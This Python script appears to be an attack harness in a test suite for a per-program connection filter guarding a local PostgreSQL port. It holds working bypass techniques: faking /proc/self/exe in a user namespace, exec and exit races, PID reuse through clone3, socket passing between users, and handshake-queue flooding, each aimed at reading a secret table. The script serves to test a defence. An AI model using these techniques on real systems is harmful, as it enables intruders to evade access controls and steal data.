"""The attacks' own moves. Usage: attack.py NAME PORT ARGS. Prints what it got."""
import array
import ctypes
import errno
import os
import resource
import select
import signal
import socket
import struct
import sys
import time

name, port, args = sys.argv[1], int(sys.argv[2]), sys.argv[3:]
signal.alarm(60)
libc = ctypes.CDLL(None, use_errno=True)


def fork():
    """A child has no alarm of its own, and whoever waits for the output waits for all."""
    pid = os.fork()
    if pid == 0:
        signal.alarm(60)
    return pid


def say(text):
    print(text, flush=True)


def prepared(source=None):
    """A socket that leaves nothing in its port when it is closed."""
    s = socket.socket()
    s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
    s.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, struct.pack("ii", 1, 0))
    s.settimeout(20)
    if source:
        s.bind(("127.0.0.1", source))
    return s


def opened():
    s = prepared()
    s.connect(("127.0.0.1", port))
    return s


def begun(source):
    """One whose handshake may still go on."""
    s = prepared(source)
    s.setblocking(False)
    try:
        s.connect(("127.0.0.1", port))
    except BlockingIOError:
        pass
    return s


def hangs(s, patience):
    poll = select.poll()
    poll.register(s, select.POLLOUT)
    return not poll.poll(patience * 1000)


def startup(s):
    body = struct.pack("!i", 196608) + b"user\0x\0database\0postgres\0\0"
    s.sendall(struct.pack("!i", len(body) + 4) + body)


def query(s, sql="SELECT secret FROM gold"):
    body = sql.encode() + b"\0"
    s.sendall(b"Q" + struct.pack("!i", len(body) + 4) + body)


def read(s):
    """Everything up to ReadyForQuery or the end."""
    data = b""
    try:
        while b"Z\0\0\0\5" not in data:
            piece = s.recv(65536)
            if not piece:
                break
            data += piece
    except OSError as error:
        data += repr(error).encode()
    return data.decode("latin-1").replace("\0", " ")


def rows(s):
    """What the answer to a query says: the first column of each row, and errors."""
    data = b""
    try:
        while b"Z\0\0\0\5" not in data:
            piece = s.recv(65536)
            if not piece:
                break
            data += piece
    except OSError as error:
        return repr(error)
    found = []
    while len(data) >= 5:
        kind, size = data[:1], struct.unpack("!i", data[1:5])[0]
        body, data = data[5 : size + 1], data[size + 1 :]
        if kind == b"D":
            found.append(body[6:].decode())
        elif kind == b"E":
            found.append(body.decode().replace("\0", " "))
    return " ".join(found)


def steal(s):
    """Speaks the protocol and shows whatever comes."""
    try:
        startup(s)
        say(read(s))
        query(s)
        say(read(s))
    except OSError as error:
        say(repr(error))


def become(uid):
    os.setgroups([])
    os.setgid(uid)
    os.setuid(uid)


def runs(pid):
    return os.readlink(f"/proc/{pid}/exe")


# Takes connections and never answers, so that a psql that connects to it just stands there.
sink = socket.socket()
sink.bind(("127.0.0.1", 0))
sink.listen(8)


def replace_by(program, at=None):
    """Becomes psql, which connects and then stands there."""
    host = f"host=127.0.0.1 port={at or sink.getsockname()[1]} user=x dbname=postgres connect_timeout=50"
    os.execv(program, [program, "-X", "-d", host])


def is_connected(pid):
    """Whether a process has an established TCP connection."""
    inodes = set()
    for fd in os.listdir(f"/proc/{pid}/fd"):
        try:
            inodes.add(os.readlink(f"/proc/{pid}/fd/{fd}"))
        except FileNotFoundError:
            pass
    with open(f"/proc/{pid}/net/tcp") as table:
        lines = [line.split() for line in table][1:]
    return any(line[3] == "01" and f"socket:[{line[9]}]" in inodes for line in lines)


def pretend(program):
    """Makes /proc/self/exe another file, as any user can in a user namespace of its own.

    The kernel demands that nothing of the running file is mapped any more, so each such mapping is replaced by a copy of
    itself. That file is the dynamic loader, which started python and whose data changes no more.
    """
    libc.mmap.restype = libc.mremap.restype = libc.sbrk.restype = ctypes.c_void_p
    libc.mmap.argtypes = [ctypes.c_void_p, ctypes.c_size_t, ctypes.c_int, ctypes.c_int, ctypes.c_int, ctypes.c_long]
    libc.mremap.argtypes = [ctypes.c_void_p, ctypes.c_size_t, ctypes.c_size_t, ctypes.c_int, ctypes.c_void_p]
    libc.mprotect.argtypes = [ctypes.c_void_p, ctypes.c_size_t, ctypes.c_int]

    def must(done, what):
        if not done:
            sys.exit(f"{what}: {os.strerror(ctypes.get_errno())}")

    must(libc.unshare(0x10000000) == 0, "CLONE_NEWUSER")
    running = runs("self")
    with open("/proc/self/maps") as maps:
        mapped = [line.split() for line in maps if line.split()[-1] == running]
    for place, access, *_ in mapped:
        start, end = (int(address, 16) for address in place.split("-"))
        size = end - start
        protection = sum(bit for letter, bit in zip(access, (1, 2, 4)) if letter != "-")
        copy = libc.mmap(None, size, 3, 0x22, -1, 0)
        if protection & 1:
            ctypes.memmove(copy, start, size)
        must(libc.mprotect(copy, size, protection) == 0, "mprotect")
        must(libc.mremap(copy, size, size, 3, start) == start, "mremap")
    with open("/proc/self/stat") as stat:
        fields = stat.read().rsplit(") ", 1)[1].split()
    # All as it is, but for the file: struct prctl_mm_map, PR_SET_MM, PR_SET_MM_MAP.
    code_data_brk, stack_and_arguments = [26, 27, 45, 46, 47], [28, 48, 49, 50, 51]
    values = [int(fields[n - 3]) for n in code_data_brk] + [libc.sbrk(0)]
    values += [int(fields[n - 3]) for n in stack_and_arguments]
    layout = struct.pack("11QQII", *values, 0, 0, os.open(program, os.O_RDONLY))
    must(libc.prctl(35, 14, layout, len(layout), 0) == 0, "PR_SET_MM_MAP")
    must(runs("self") == program, "/proc/self/exe")


if name == "plain":
    if args:
        libc.prctl(15, os.path.basename(args[0]).encode(), 0, 0, 0)
    steal(opened())
elif name == "pretend":
    pretend(args[0])
    steal(opened())
elif name == "names":
    pid = fork()
    if pid == 0:
        os.execv("/usr/bin/python3", [args[0], sys.argv[0], "plain", str(port), args[0]])
    os.waitpid(pid, 0)
elif name == "long":
    # Each byte of these names takes six in JSON.
    os.chdir(args[0])
    while len(os.getcwd()) < 3800:
        os.mkdir("\x01" * 200)
        os.chdir("\x01" * 200)
    with open("/usr/bin/python3", "rb") as program, open("\x01" * 200, "xb") as copy:
        copy.write(program.read())
    os.chmod("\x01" * 200, 0o755)
    os.execv("./" + "\x01" * 200, ["/usr/bin/python3", sys.argv[0], "plain", str(port), "\x01" * 4000])
elif name in ("exec", "exec-race", "inherit"):
    s = opened()
    me = os.getpid()
    if fork() == 0:
        # The child keeps the socket and speaks, while its parent looks like the permitted program.
        if name == "exec":
            while runs(me) != args[0]:
                time.sleep(0.001)
        if name != "exec-race":
            say(f"standing {me}")
        steal(s)
        os.kill(me, signal.SIGKILL)
        os._exit(0)
    if name == "inherit":
        signal.pause()
    if name == "exec-race":
        time.sleep(int(args[1]) * 0.0002)
    replace_by(args[0])
elif name == "pid-reuse":
    program, uid, place = args[0], int(args[1]), args[2]
    read_end, write_end = os.pipe()
    victim = fork()
    if victim == 0:
        become(uid)
        s = opened()
        if fork() == 0:
            os.write(write_end, b"x")
            steal(s)
        os._exit(0)
    os.close(write_end)
    os.waitpid(victim, 0)
    os.read(read_end, 1)
    want = (ctypes.c_int * 1)(victim)
    clone_args = (ctypes.c_uint64 * 11)(*([0] * 11))
    clone_args[4] = signal.SIGCHLD
    clone_args[8] = ctypes.addressof(want)
    clone_args[9] = 1
    got = libc.syscall(435, ctypes.byref(clone_args), ctypes.sizeof(clone_args))
    if got == 0:
        become(uid)
        replace_by(program, port if place == "here" else None)
    if got != victim:
        sys.exit(f"clone3 gave {got}, errno {ctypes.get_errno()}")
    while runs(got) != program or not is_connected(got):
        time.sleep(0.001)
    say(f"standing {got}")
    # Until the one who kept the socket has ended.
    os.read(read_end, 1)
    os.kill(got, signal.SIGKILL)
elif name in ("exec-later", "exit-later"):
    s = opened()
    startup(s)
    read(s)
    query(s)
    say("first " + rows(s))
    me = os.getpid()
    if fork() == 0:
        if name == "exec-later":
            while runs(me) == os.readlink("/proc/self/exe"):
                time.sleep(0.001)
        else:
            while os.getppid() == me:
                time.sleep(0.001)
        try:
            query(s)
            say("second " + rows(s))
        except OSError as error:
            say("second " + repr(error))
        if name == "exec-later":
            os.kill(me, signal.SIGKILL)
        os._exit(0)
    if name == "exec-later":
        os.execv(args[0], [args[0], "50"])
    # The child speaks after this process has gone; whoever waits for the output gets it all.
    os._exit(0)
elif name in ("copy-exec", "copy-exit", "copy-stay"):
    # A process begins to copy, and a child that has its socket sends the data.
    s = opened()
    startup(s)
    read(s)
    query(s, "COPY nuggets FROM STDIN")
    while s.recv(1) != b"G":
        pass
    me = os.getpid()
    if fork() == 0:
        while name == "copy-exec" and runs(me) == os.readlink("/proc/self/exe"):
            time.sleep(0.001)
        while name == "copy-exit" and os.getppid() == me:
            time.sleep(0.001)
        try:
            line = name.encode() + b"\n"
            s.sendall(b"d" + struct.pack("!i", len(line) + 4) + line + b"c" + struct.pack("!i", 4))
            say(read(s))
        except OSError as error:
            say(repr(error))
        if name != "copy-exit":
            os.kill(me, signal.SIGKILL)
        os._exit(0)
    if name == "copy-exec":
        os.execv("/bin/sleep", ["/bin/sleep", "50"])
    if name == "copy-stay":
        time.sleep(50)
    os._exit(0)
elif name == "passed":
    # One process connects, another speaks.
    connects, speaks = int(args[0]), int(args[1])
    ours, theirs = socket.socketpair()
    first = fork()
    if first == 0:
        become(connects)
        s = opened()
        say(f"connected {os.getpid()}")
        ours.sendmsg([b"x"], [(socket.SOL_SOCKET, socket.SCM_RIGHTS, array.array("i", [s.fileno()]))])
        ours.recv(1)
        os._exit(0)
    become(speaks)
    _, control, _, _ = theirs.recvmsg(1, 64)
    steal(socket.socket(fileno=array.array("i", control[0][2])[0]))
    theirs.send(b"x")
    os.waitpid(first, 0)
elif name in ("fill", "wait"):
    # As many connections as the queue takes, and ten that hang in the handshake.
    first, count = int(args[0]), int(args[1])
    _, most = resource.getrlimit(resource.RLIMIT_NOFILE)
    resource.setrlimit(resource.RLIMIT_NOFILE, (most, most))
    sockets, hanging = [], 0
    for source in range(first, first + count):
        sockets.append(begun(source))
        hanging += hangs(sockets[-1], 0.5)
        if hanging == 10:
            break
    else:
        sys.exit("not full")
    say(f"standing {source}")
    if name == "wait":
        signal.pause()
elif name == "take":
    first, count = int(args[0]), int(args[1])
    sockets = [begun(source) for source in range(first, first + count)]
    say(f"standing {os.getpid()}")
    tried = 0
    for s in sockets:
        if not hangs(s, 20) and s.getsockopt(socket.SOL_SOCKET, socket.SO_ERROR) == 0:
            tried += 1
            s.settimeout(20)
            steal(s)
    say(f"tried {tried}")
elif name == "direct":
    try:
        socket.create_connection((args[0], int(args[1])), timeout=3)
        say("connected")
    except OSError as error:
        say(errno.errorcode.get(error.errno, repr(error)))
else:
    sys.exit(f"unknown attack {name}")
